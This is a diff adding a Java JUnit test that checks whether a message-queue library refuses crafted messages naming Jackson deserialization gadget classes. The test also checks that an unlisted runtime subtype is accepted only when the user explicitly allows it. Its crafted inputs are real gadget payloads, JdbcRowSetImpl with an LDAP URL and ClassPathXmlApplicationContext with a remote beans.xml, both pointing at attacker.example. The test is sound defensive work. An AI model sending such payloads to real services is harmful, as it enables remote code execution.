@@ -1,0 +1,127 @@
+package io.cq.core.message;
+
+import com.fasterxml.jackson.annotation.JsonTypeInfo;
+import io.cq.core.ExcerptBytes;
+import io.cq.core.MappedQueue;
+import io.cq.core.WriteContext;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+import tools.jackson.dataformat.cbor.CBORMapper;
+
+import java.nio.charset.StandardCharsets;
+import java.nio.file.Path;
+import java.util.ArrayList;
+import java.util.List;
+import java.util.Map;
+
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.assertThatThrownBy;
+
+/**
+ * A document may name a class only where the parameter type asks for it, and then only a class reachable from
+ * the handler's parameter types. Crafted excerpts naming well-known Jackson gadget classes are refused.
+ */
+class GadgetRefusalTest {
+    @TempDir
+    Path dir;
+
+    /** Polymorphic by class name: the pattern that gadget chains exploit when nothing restricts it. */
+    @JsonTypeInfo(use = JsonTypeInfo.Id.CLASS)
+    public sealed interface Payment permits Card, Cash {
+    }
+
+    public record Card(String number) implements Payment {
+    }
+
+    public record Cash(long cents) implements Payment {
+    }
+
+    public interface Payments {
+        void pay(Payment payment);
+
+        void note(Object anything);
+    }
+
+    @Test
+    void shouldRefuseGadgetTypesNamedInADocumentAndKeepReading() {
+        List<Object> seen = new ArrayList<>();
+        Payments handler = new Payments() {
+            @Override
+            public void pay(Payment payment) {
+                seen.add(payment);
+            }
+
+            @Override
+            public void note(Object anything) {
+                seen.add(anything);
+            }
+        };
+        try (MappedQueue queue = MappedQueue.builder(dir).build()) {
+            Payments writer = queue.acquireAppender().methodWriter(Payments.class);
+            writer.pay(new Card("4111"));
+            appendCrafted(queue, "pay", Map.of("@class", "com.sun.rowset.JdbcRowSetImpl",
+                    "dataSourceName", "ldap://attacker.example/x", "autoCommit", true));
+            appendCrafted(queue, "pay", Map.of("@class", "org.springframework.context.support.ClassPathXmlApplicationContext",
+                    "configLocation", "http://attacker.example/beans.xml"));
+            // With no @JsonTypeInfo on the parameter, a type name in the data is plain data.
+            appendCrafted(queue, "note", Map.of("@class", "com.sun.rowset.JdbcRowSetImpl"));
+            writer.pay(new Cash(250));
+
+            MethodReader reader = queue.createTailer().methodReader(handler);
+            assertThat(reader.readOne()).isTrue();
+            assertThatThrownBy(reader::readOne)
+                    .isInstanceOf(MessageDecodingException.class)
+                    .hasMessageContaining("(method pay)")
+                    .hasMessageContaining("type com.sun.rowset.JdbcRowSetImpl is not allowed here");
+            assertThatThrownBy(reader::readOne)
+                    .isInstanceOf(MessageDecodingException.class)
+                    .hasMessageContaining("type org.springframework.context.support.ClassPathXmlApplicationContext is not allowed here");
+            assertThat(reader.readOne()).isTrue();
+            assertThat(reader.readOne()).isTrue();
+            assertThat(reader.readOne()).isFalse();
+        }
+        assertThat(seen).containsExactly(new Card("4111"), Map.of("@class", "com.sun.rowset.JdbcRowSetImpl"), new Cash(250));
+    }
+
+    public static final class Unlisted implements Payment0 {
+        public String value;
+    }
+
+    @JsonTypeInfo(use = JsonTypeInfo.Id.CLASS)
+    public interface Payment0 {
+    }
+
+    public interface OpenPayments {
+        void pay(Payment0 payment);
+    }
+
+    @Test
+    void shouldInstantiateASubtypeFoundOnlyAtRunTimeOnlyWhenTheUserAllowsIt() {
+        List<Payment0> seen = new ArrayList<>();
+        try (MappedQueue queue = MappedQueue.builder(dir).build()) {
+            Unlisted value = new Unlisted();
+            value.value = "v";
+            queue.acquireAppender().methodWriter(OpenPayments.class).pay(value);
+
+            OpenPayments handler = seen::add;
+            assertThatThrownBy(() -> queue.createTailer().methodReader(handler).readOne())
+                    .isInstanceOf(MessageDecodingException.class)
+                    .hasMessageContaining("type " + Unlisted.class.getName() + " is not allowed here");
+            assertThat(queue.createTailer().methodReaderBuilder().handlers(handler).allowTypes(Unlisted.class).build()
+                    .readOne()).isTrue();
+        }
+        assertThat(seen).singleElement().isInstanceOf(Unlisted.class);
+    }
+
+    /** A message excerpt written by hand, as an attacker with write access to the queue could. */
+    private static void appendCrafted(MappedQueue queue, String method, Map<String, Object> document) {
+        byte[] cbor = new CBORMapper().writeValueAsBytes(document);
+        byte[] name = method.getBytes(StandardCharsets.UTF_8);
+        try (WriteContext context = queue.acquireAppender().writingDocument()) {
+            ExcerptBytes bytes = context.bytes();
+            bytes.writeInt('c' | 'q' << 8 | 'm' << 16 | 1 << 24).writeByte((byte) 0);
+            bytes.writeByte((byte) name.length).writeBytes(name).writeByte((byte) 1);
+            bytes.writeByte((byte) 'O').writeInt(cbor.length).writeBytes(cbor);
+        }
+    }
+}
